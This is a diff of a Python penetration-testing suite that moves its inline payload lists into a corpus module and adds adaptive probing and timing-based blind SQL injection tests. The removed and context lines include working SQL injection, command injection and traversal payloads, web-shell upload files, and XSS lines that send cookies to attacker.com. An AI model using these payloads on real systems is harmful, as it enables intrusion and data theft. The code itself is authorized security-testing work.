@@ -8,20 +8,34 @@ import os
 import sys
 import json
 import time
+import argparse
 import requests
 import subprocess
 import threading
 from datetime import datetime
-from typing import Dict, List, Any, Optional
+from typing import Dict, List, Any, Optional, Callable, Iterator, Tuple
 from concurrent.futures import ThreadPoolExecutor, as_completed
 
+from adaptive_probing import AdaptiveProbePlanner
+from blind_injection_detector import TimingBlindInjectionDetector
+from endpoint_discovery import EndpointIndex, load_endpoint_index, payload_body, target_endpoints
+from http_session import stateless_session
+from payload_corpus import get_corpus
+
 class PenetrationTestingSuite:
-    def __init__(self):
+    def __init__(self, adaptive: bool = False, request_budget: int = 200,
+                 endpoint_index: Optional[EndpointIndex] = None, session: Optional[requests.Session] = None):
         self.test_results = []
         self.start_time = time.time()
         self.base_url = "http://localhost:3000"  # Adjust as needed
         self.vulnerabilities_found = []
         self.exploits_successful = []
+        self.adaptive = adaptive
+        self.request_budget = request_budget
+        self.endpoint_index = endpoint_index
+        # Pass a session to share one connection pool with other suites; never one that keeps cookies
+        self.session = session or stateless_session()
+        self.corpus = get_corpus()
         
     def run_penetration_tests(self) -> Dict[str, Any]:
         """Run comprehensive penetration testing suite"""
@@ -61,6 +75,9 @@ class PenetrationTestingSuite:
         # Test 10: Information Disclosure
         self.test_information_disclosure()
         
+        # Test 11: Timing-Based Blind SQL Injection (runs last, isolated from other load)
+        self.test_blind_sql_injection()
+        
         # Generate penetration test report
         return self.generate_penetration_report()
     
@@ -75,56 +92,33 @@ class PenetrationTestingSuite:
             "severity": "HIGH"
         }
         
-        # Advanced SQL injection payloads
-        sql_payloads = [
-            # Union-based injection
-            "1' UNION SELECT username, password FROM users--",
-            "1' UNION SELECT table_name, column_name FROM information_schema.tables--",
-            "1' UNION SELECT 1, version()--",
-            
-            # Boolean-based blind injection
-            "1' AND (SELECT COUNT(*) FROM users) > 0--",
-            "1' AND (SELECT LENGTH(password) FROM users WHERE id=1) > 5--",
-            "1' AND (SELECT SUBSTRING(password,1,1) FROM users WHERE id=1) = 'a'--",
-            
-            # Time-based blind injection
-            "1'; WAITFOR DELAY '00:00:05'--",
-            "1'; SELECT SLEEP(5)--",
-            "1' AND (SELECT SLEEP(5))--",
-            
-            # Error-based injection
-            "1' AND EXTRACTVALUE(1, CONCAT(0x7e, (SELECT version()), 0x7e))--",
-            "1' AND (SELECT * FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)--",
-            
-            # Second-order injection
-            "1'; INSERT INTO logs VALUES ('admin', '1'' OR 1=1--');--",
-            "1'; UPDATE users SET password='1'' OR 1=1--' WHERE id=1;--"
-        ]
+        # Advanced SQL injection payloads, grouped by technique. Time-based blind
+        # payloads are judged on latency, not bodies: see test_blind_sql_injection
+        sql_payload_families = self.corpus.families("sql_injection", ["advanced"])
+        
+        # Test different endpoints
+        endpoints = target_endpoints(self.endpoint_index, ["/api/users", "/api/search", "/api/data", "/api/reports"], "POST")
         
-        for payload in sql_payloads:
+        probes = self.probe_payloads(
+            test_results, sql_payload_families, endpoints,
+            lambda endpoint, payload: payload_body(self.endpoint_index, endpoint, payload, ["id", "query", "search", "filter"]),
+            baseline_value="1"
+        )
+        
+        for payload, endpoint, send in probes:
             try:
-                # Test different endpoints
-                endpoints = ["/api/users", "/api/search", "/api/data", "/api/reports"]
-                
-                for endpoint in endpoints:
-                    response = self.make_request("POST", endpoint, {
-                        "id": payload,
-                        "query": payload,
-                        "search": payload,
-                        "filter": payload
-                    })
+                response = send()
+                # Check for successful injection
+                if self.detect_sql_injection_success(response, payload):
+                    vulnerability = {
+                        "payload": payload,
+                        "endpoint": endpoint,
+                        "response": response.get("body", "")[:200],
+                        "severity": "HIGH"
+                    }
+                    test_results["vulnerabilities"].append(vulnerability)
+                    test_results["exploits"].append(f"SQL injection successful on {endpoint}")
                     
-                    # Check for successful injection
-                    if self.detect_sql_injection_success(response, payload):
-                        vulnerability = {
-                            "payload": payload,
-                            "endpoint": endpoint,
-                            "response": response.get("body", "")[:200],
-                            "severity": "HIGH"
-                        }
-                        test_results["vulnerabilities"].append(vulnerability)
-                        test_results["exploits"].append(f"SQL injection successful on {endpoint}")
-                        
             except Exception as e:
                 test_results["vulnerabilities"].append({
                     "payload": payload,
@@ -148,66 +142,32 @@ class PenetrationTestingSuite:
             "severity": "MEDIUM"
         }
         
-        # Advanced XSS payloads
-        xss_payloads = [
-            # Basic script injection
-            "<script>alert('XSS')</script>",
-            "<img src=x onerror=alert('XSS')>",
-            "<svg onload=alert('XSS')>",
-            
-            # Event handler injection
-            "<div onmouseover=alert('XSS')>hover me</div>",
-            "<input onfocus=alert('XSS') autofocus>",
-            "<select onfocus=alert('XSS') autofocus>",
-            
-            # JavaScript protocol
-            "javascript:alert('XSS')",
-            "JAVASCRIPT:alert('XSS')",
-            "JaVaScRiPt:alert('XSS')",
-            
-            # Data URI
-            "data:text/html,<script>alert('XSS')</script>",
-            "data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4=",
-            
-            # Filter bypass techniques
-            "<ScRiPt>alert('XSS')</ScRiPt>",
-            "<script>alert(String.fromCharCode(88,83,83))</script>",
-            "<script>alert(/XSS/)</script>",
-            "<script>alert`XSS`</script>",
-            
-            # DOM-based XSS
-            "<script>document.location='http://attacker.com/steal?cookie='+document.cookie</script>",
-            "<script>new Image().src='http://attacker.com/steal?cookie='+document.cookie</script>",
-            
-            # Stored XSS
-            "<script>setTimeout(function(){alert('Stored XSS')},1000)</script>",
-            "<script>setInterval(function(){alert('Persistent XSS')},5000)</script>"
-        ]
+        # Advanced XSS payloads, grouped by technique
+        xss_payload_families = self.corpus.families("xss", ["advanced"])
+        
+        # Test different endpoints
+        endpoints = target_endpoints(self.endpoint_index, ["/api/comments", "/api/profile", "/api/content", "/api/messages"], "POST")
+        
+        probes = self.probe_payloads(
+            test_results, xss_payload_families, endpoints,
+            lambda endpoint, payload: payload_body(self.endpoint_index, endpoint, payload, ["content", "comment", "description", "message"]),
+            baseline_value="hello"
+        )
         
-        for payload in xss_payloads:
+        for payload, endpoint, send in probes:
             try:
-                # Test different endpoints
-                endpoints = ["/api/comments", "/api/profile", "/api/content", "/api/messages"]
-                
-                for endpoint in endpoints:
-                    response = self.make_request("POST", endpoint, {
-                        "content": payload,
-                        "comment": payload,
-                        "description": payload,
-                        "message": payload
-                    })
+                response = send()
+                # Check for successful XSS
+                if self.detect_xss_success(response, payload):
+                    vulnerability = {
+                        "payload": payload,
+                        "endpoint": endpoint,
+                        "response": response.get("body", "")[:200],
+                        "severity": "MEDIUM"
+                    }
+                    test_results["vulnerabilities"].append(vulnerability)
+                    test_results["exploits"].append(f"XSS successful on {endpoint}")
                     
-                    # Check for successful XSS
-                    if self.detect_xss_success(response, payload):
-                        vulnerability = {
-                            "payload": payload,
-                            "endpoint": endpoint,
-                            "response": response.get("body", "")[:200],
-                            "severity": "MEDIUM"
-                        }
-                        test_results["vulnerabilities"].append(vulnerability)
-                        test_results["exploits"].append(f"XSS successful on {endpoint}")
-                        
             except Exception as e:
                 test_results["vulnerabilities"].append({
                     "payload": payload,
@@ -468,8 +428,8 @@ class PenetrationTestingSuite:
         # Malicious file uploads
         malicious_files = [
             {"filename": "shell.php", "content": "<?php system($_GET['cmd']); ?>"},
-            {"filename": "shell.jsp", "content": "<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>"},
-            {"filename": "shell.asp", "content": "<% eval request("cmd") %>"},
+            {"filename": "shell.jsp", "content": "<% Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>"},
+            {"filename": "shell.asp", "content": "<% eval request(\"cmd\") %>"},
             {"filename": "test.php.jpg", "content": "<?php system($_GET['cmd']); ?>"},
             {"filename": "shell.phtml", "content": "<?php system($_GET['cmd']); ?>"},
             {"filename": "shell.php5", "content": "<?php system($_GET['cmd']); ?>"}
@@ -513,15 +473,7 @@ class PenetrationTestingSuite:
         }
         
         # Directory traversal payloads
-        traversal_payloads = [
-            "../../../etc/passwd",
-            "..\\..\\..\\windows\\system32\\drivers\\etc\\hosts",
-            "....//....//....//etc/passwd",
-            "..%2f..%2f..%2fetc%2fpasswd",
-            "..%252f..%252f..%252fetc%252fpasswd",
-            "/etc/passwd",
-            "C:\\windows\\system32\\drivers\\etc\\hosts"
-        ]
+        traversal_payloads = self.corpus.payloads("directory_traversal", ["advanced"])
         
         for payload in traversal_payloads:
             try:
@@ -561,18 +513,7 @@ class PenetrationTestingSuite:
         }
         
         # Command injection payloads
-        command_payloads = [
-            "; ls -la",
-            "| whoami",
-            "& id",
-            "` whoami `",
-            "$(whoami)",
-            "; cat /etc/passwd",
-            "| cat /etc/passwd",
-            "& cat /etc/passwd",
-            "` cat /etc/passwd `",
-            "$(cat /etc/passwd)"
-        ]
+        command_payloads = self.corpus.payloads("command_injection", ["advanced"])
         
         for payload in command_payloads:
             try:
@@ -655,6 +596,95 @@ class PenetrationTestingSuite:
         print(f"   Successful exploits: {len(test_results['exploits'])}")
         print()
     
+    def test_blind_sql_injection(self):
+        """Test time-based blind SQL injection using latency distributions"""
+        print("🔍 Testing Timing-Based Blind SQL Injection...")
+        
+        test_results = {
+            "test_name": "Blind SQL Injection (Timing)",
+            "vulnerabilities": [],
+            "exploits": [],
+            "severity": "HIGH"
+        }
+        
+        endpoints = target_endpoints(self.endpoint_index, ["/api/users", "/api/search", "/api/data", "/api/reports"], "POST")
+        detector = TimingBlindInjectionDetector(self.base_url)
+        
+        try:
+            verdicts = detector.scan(
+                endpoints,
+                lambda endpoint, value: payload_body(self.endpoint_index, endpoint, value, ["id", "query", "search", "filter"])
+            )
+            
+            for verdict in verdicts:
+                if verdict["verdict"] == "VULNERABLE":
+                    test_results["vulnerabilities"].append({
+                        "payload": verdict["payload"],
+                        "endpoint": verdict["endpoint"],
+                        "technique": verdict["technique"],
+                        "control_median": verdict["control_median"],
+                        "delay_median": verdict["delay_median"],
+                        "p_value": verdict["p_value"],
+                        "severity": "HIGH"
+                    })
+                    test_results["exploits"].append(
+                        f"Time-based blind SQL injection on {verdict['endpoint']} ({verdict['technique']})"
+                    )
+            
+            test_results["timing_verdicts"] = verdicts
+            test_results["timing_requests"] = detector.requests_sent
+            
+        except Exception as e:
+            test_results["vulnerabilities"].append({
+                "error": str(e),
+                "severity": "LOW"
+            })
+        finally:
+            detector.close()
+        
+        self.test_results.append(test_results)
+        print(f"   Vulnerabilities found: {len(test_results['vulnerabilities'])}")
+        print(f"   Successful exploits: {len(test_results['exploits'])}")
+        print(f"   Timing probes sent: {detector.requests_sent}")
+        print()
+    
+    def probe_payloads(self, test_results: Dict[str, Any], payload_families: Dict[str, List[str]],
+                       endpoints: List[str], build_body: Callable[[str, str], Dict[str, Any]],
+                       baseline_value: str) -> Iterator[Tuple[str, str, Callable[[], Dict[str, Any]]]]:
+        """Plan payload probes, yielding (payload, endpoint, send) where send() makes the request
+        
+        The caller sends each probe inside its own error handling, so a payload
+        that fails unexpectedly fails alone. In the default mode every payload is
+        sent to every endpoint. In adaptive mode an AdaptiveProbePlanner decides
+        which probes are worth the request budget, and its summary is attached
+        to the test results.
+        """
+        if not self.adaptive:
+            for payloads in payload_families.values():
+                for payload in payloads:
+                    for endpoint in endpoints:
+                        yield payload, endpoint, lambda endpoint=endpoint, payload=payload: self.make_request(
+                            "POST", endpoint, build_body(endpoint, payload))
+            return
+        
+        planner = AdaptiveProbePlanner(budget=self.request_budget)
+        for endpoint in endpoints:
+            try:
+                baseline = self.make_request("POST", endpoint, build_body(endpoint, baseline_value))
+            except Exception:
+                # Treated like an endpoint that does not answer
+                baseline = {"status_code": 0, "headers": {}, "body": ""}
+            planner.record_baseline(endpoint, baseline)
+        
+        for family, payload, endpoint in planner.plan(payload_families, endpoints):
+            def send(family=family, payload=payload, endpoint=endpoint):
+                response = self.make_request("POST", endpoint, build_body(endpoint, payload))
+                planner.record(family, endpoint, response)
+                return response
+            yield payload, endpoint, send
+        
+        test_results["adaptive_probing"] = planner.summary()
+    
     def detect_sql_injection_success(self, response: Dict, payload: str) -> bool:
         """Detect successful SQL injection"""
         body = response.get("body", "").lower()
@@ -796,23 +826,26 @@ class PenetrationTestingSuite:
             if headers:
                 request_headers.update(headers)
             
+            request_start = time.time()
             if method.upper() == "GET":
-                response = requests.get(url, headers=request_headers, timeout=10)
+                response = self.session.get(url, headers=request_headers, timeout=10)
             elif method.upper() == "POST":
-                response = requests.post(url, json=data, headers=request_headers, timeout=10)
+                response = self.session.post(url, json=data, headers=request_headers, timeout=10)
             else:
-                response = requests.request(method, url, json=data, headers=request_headers, timeout=10)
+                response = self.session.request(method, url, json=data, headers=request_headers, timeout=10)
             
             return {
                 "status_code": response.status_code,
                 "headers": dict(response.headers),
-                "body": response.text
+                "body": response.text,
+                "elapsed": time.time() - request_start
             }
         except requests.exceptions.RequestException as e:
             return {
                 "status_code": 0,
                 "headers": {},
-                "body": f"Request failed: {str(e)}"
+                "body": f"Request failed: {str(e)}",
+                "elapsed": 0.0
             }
     
     def generate_penetration_report(self) -> Dict[str, Any]:
@@ -889,6 +922,15 @@ class PenetrationTestingSuite:
 
 def main():
     """Main function to run penetration testing suite"""
+    parser = argparse.ArgumentParser(description="Alex AI Penetration Testing Suite")
+    parser.add_argument("--adaptive", action="store_true",
+                        help="Prune unproductive endpoints and payload families instead of sending every payload everywhere")
+    parser.add_argument("--budget", type=int, default=200,
+                        help="Request budget per attack test in adaptive mode (default: 200)")
+    parser.add_argument("--discover", action="store_true",
+                        help="Target endpoints found by endpoint discovery instead of the built-in lists")
+    args = parser.parse_args()
+    
     print("⚠️  WARNING: This is a penetration testing tool.")
     print("   Only use on systems you own or have explicit permission to test.")
     print("   Unauthorized testing is illegal and unethical.")
@@ -899,7 +941,9 @@ def main():
         print("❌ Penetration testing aborted - no permission granted")
         return 1
     
-    tester = PenetrationTestingSuite()
+    endpoint_index = load_endpoint_index() if args.discover else None
+    tester = PenetrationTestingSuite(adaptive=args.adaptive, request_budget=args.budget,
+                                     endpoint_index=endpoint_index)
     
     try:
         report = tester.run_penetration_tests()